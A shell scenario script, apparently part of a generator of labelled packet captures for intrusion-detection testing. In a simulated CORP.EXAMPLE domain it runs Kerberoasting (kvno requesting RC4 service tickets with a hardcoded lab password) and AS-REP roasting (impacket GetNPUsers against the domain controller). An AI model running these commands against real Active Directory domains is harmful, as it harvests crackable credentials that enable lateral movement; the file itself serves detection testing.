# 10.60.0.66, with bob's password, asks for RC4 tickets of two service accounts (Kerberoasting) with MIT's
# kvno, and tries all accounts for data without pre-authentication (AS-REP roasting) with impacket's
# GetNPUsers, which Samba refuses.
topology=domain
file=domain-roast.pcap.gz
class=lateral
family=roasting
rule=SRC:10.60.0.66:lateral
tools=(kvno:krb5-user)

play() {
  domain_day 80
  sleep 20
  export KRB5CCNAME=$work/intruder.tickets
  echo Sommer-bob-7 | inside intruder kinit bob@CORP.EXAMPLE >/dev/null
  inside intruder kvno -e arcfour-hmac HTTP/web.corp.example MSSQLSvc/sql.corp.example:1433 || true
  unset KRB5CCNAME
  sleep 5
  printf '%s\n' "${people[@]}" svc-scan >"$work/names"
  tool GetNPUsers -no-pass -usersfile "$work/names" -dc-ip 10.60.0.10 corp.example/
  sleep 10
}
